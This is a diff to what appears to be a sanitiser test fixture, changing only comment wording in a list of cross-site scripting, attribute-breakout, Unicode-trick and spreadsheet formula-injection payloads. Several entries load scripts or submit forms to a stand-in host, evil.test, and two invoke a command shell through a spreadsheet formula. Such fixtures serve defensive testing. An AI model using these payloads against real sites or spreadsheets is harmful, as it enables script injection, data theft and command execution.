@@ -3,7 +3,7 @@
  * Code calls `__ran`, elements have `data-ran`, and requests go to evil.test.
  */
 export const PAYLOADS: readonly string[] = [
-  // Tags that run at once.
+  // These tags run at once.
   "<script data-ran>__ran(1)</script>",
   "<SCRIPT SRC=https://evil.test/2.js data-ran></SCRIPT>",
   "<img data-ran src=x onerror=__ran(3)>",
@@ -26,7 +26,7 @@ export const PAYLOADS: readonly string[] = [
   "<base data-ran href=https://evil.test/20/>",
   "<form data-ran action=https://evil.test/21><button>Go</button></form>",
   "<style data-ran>@import 'https://evil.test/22.css';</style>",
-  // Breaking out of an attribute, an element, a comment, a script.
+  // These texts break out of an attribute, an element, a comment, a script.
   `" onmouseover="__ran(23)" data-ran="`,
   `' onfocus='__ran(24)' autofocus data-ran='`,
   `"><img data-ran src=x onerror=__ran(25)>`,
@@ -68,7 +68,7 @@ export const PAYLOADS: readonly string[] = [
   `\\";__ran(58);//`,
   "__proto__",
   "constructor",
-  // What turns text around, hides it or ends it.
+  // These signs turn text around, hide it or end it.
   "\u202Egnp.exe\u202C\u2066",
   "a\u0000<img data-ran src=x onerror=__ran(62)>",
   "\u200B\uFEFF<svg data-ran onload=__ran(63)>",
@@ -76,7 +76,7 @@ export const PAYLOADS: readonly string[] = [
   "\uD800 lone",
   "ﬀ＜img data-ran src=x onerror=__ran(66)＞",
   `${"long ".repeat(200)}<img data-ran src=x onerror=__ran(67)>`,
-  // What a spreadsheet would count.
+  // A spreadsheet would calculate these.
   `=HYPERLINK("https://evil.test/68","x")`,
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
